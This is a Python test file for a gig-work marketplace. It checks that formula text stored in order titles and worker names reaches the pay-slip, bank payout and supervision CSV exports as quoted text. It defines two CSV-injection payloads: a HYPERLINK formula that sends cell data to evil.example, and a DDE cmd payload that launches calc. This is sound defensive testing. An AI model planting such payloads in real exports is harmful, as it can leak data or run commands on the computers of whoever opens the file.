"""Stored text that a spreadsheet would run as a formula reaches no export as a formula: the
worker's pay-slip CSV, the bank's payout file and the supervision export all go through
market/csvfile.py (its rules are tested in tests/test_csvfile.py)."""
import csv
import io
import uuid
from datetime import timedelta

from market.attendance.keys import ATTENDANCE
from market.settlement.keys import SETTLEMENTS
from tests import factories
from tests.settlement.support import SITE, admin, assign, fund, minutes, now_local, principal_of, shift_at
from tests.supervision.support import HOME, supervisor

TITLE = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
NAME = "=1+2+cmd|' /C calc'!A0"


async def _settled(client, conn):
    """A worker's approved and settled shift; the order's title and the worker's name are then
    stored as hostile text (whatever the edge accepts today, what is stored is what is exported)."""
    employer, worker = await factories.employer(client, escrow_fen=0), await factories.worker(client)
    await fund(client, employer, 10**6)
    start = now_local() - minutes(10)
    posted, shift_id = await shift_at(client, conn, employer, start, start + minutes(180))
    assignment_id = await assign(conn, shift_id, worker)
    who = await principal_of(client, worker)
    await client.app[ATTENDANCE].check_in(who, assignment_id, *SITE, now=start + minutes(5))
    await client.app[ATTENDANCE].check_out(who, assignment_id, *SITE, now=start + minutes(65))
    await client.app[ATTENDANCE].approve(await principal_of(client, employer), assignment_id)
    await conn.execute("UPDATE orders SET title = $2 WHERE id = $1", uuid.UUID(posted["id"]), TITLE)
    await conn.execute("UPDATE workers SET name = $2 WHERE id = $1", uuid.UUID(worker.id), NAME)
    return employer, worker


async def test_an_order_title_that_is_a_formula_reaches_the_pay_slip_csv_as_text(client, conn):
    _, worker = await _settled(client, conn)
    response = await client.get("/v1/workers/me/payslips?format=csv", headers=worker.auth)
    [slip] = list(csv.DictReader(io.StringIO(await response.text())))
    assert slip["order_title"] == "'" + TITLE


async def test_a_workers_name_that_is_a_formula_reaches_the_bank_file_as_text(client, conn):
    await _settled(client, conn)
    service = client.app[SETTLEMENTS]
    batch_id = await service.run_payouts((now_local() + timedelta(days=30)).date())
    response = await client.get(f"/v1/admin/payouts/{batch_id}/file", headers=await admin(client))
    assert response.status == 200, await response.text()
    rows = list(csv.DictReader(io.StringIO(await response.text())))
    assert "'" + NAME in {row["payee_name"] for row in rows}
    assert all(not row["payee_name"].startswith("=") for row in rows)


async def test_an_order_title_that_is_a_formula_reaches_the_supervision_export_as_text(client, conn):
    employer = await factories.employer(client, district_code=HOME)
    await factories.post_order(client, employer, factories.gig_order_body(title=TITLE, district_code=HOME))
    response = await client.get("/v1/supervision/export.csv?dataset=orders", headers=await supervisor(client))
    [row] = list(csv.DictReader(io.StringIO((await response.read()).decode("utf-8-sig"))))
    assert row["名称"] == "'" + TITLE  # the Chinese header of `title` (market/supervision/export.py)
